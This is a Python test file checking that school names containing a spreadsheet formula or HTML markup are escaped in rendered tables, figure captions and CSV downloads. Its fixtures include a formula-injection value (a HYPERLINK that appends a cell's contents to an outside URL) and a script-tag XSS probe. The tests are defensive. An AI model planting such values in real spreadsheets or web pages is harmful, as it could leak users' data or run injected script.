"""Names that would be a formula or markup are harmless on the page and in its downloads."""

import csv
import io
from types import SimpleNamespace

import pandas as pd

from helpers import figures
from helpers.figures import style

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Elm Road Primary School")'
MARKUP = "<script>alert(1)</script> Primary School"
NAMES = pd.DataFrame(
    {"school": [FORMULA, MARKUP, "Elm Road Primary School"], "value": [-1.5, 2, 3]}
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_table_of_names_is_harmless_on_the_page_and_in_its_download(shown, downloaded):
    figures.show_table(NAMES, "Schools", "schools", "observed")
    html = shown[0][0]["text/html"]
    assert "<script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Primary School" in html
    rows = cells(downloaded(html))
    assert [row[0] for row in rows] == ["school", f"'{FORMULA}", MARKUP, "Elm Road Primary School"]
    assert [row[1] for row in rows] == ["value", "-1.5", "2", "3"]


def test_a_picture_of_names_is_harmless_in_its_caption_and_in_its_download(shown, downloaded):
    observed = SimpleNamespace(id="2022", evidence="observed")
    with style.canvas() as (fig, (axes, *_)):
        axes.bar([1, 2, 3], [1, 2, 3])
        figures.stamp(fig, observed)
    alt = "Observed data. Three schools, the last of which raised the most."
    figures.show(figures.Picture(fig, alt, NAMES, "schools"), MARKUP)
    caption = shown[1][0]["text/html"]
    assert "<script>" not in caption
    assert cells(downloaded(caption))[1][0] == f"'{FORMULA}"
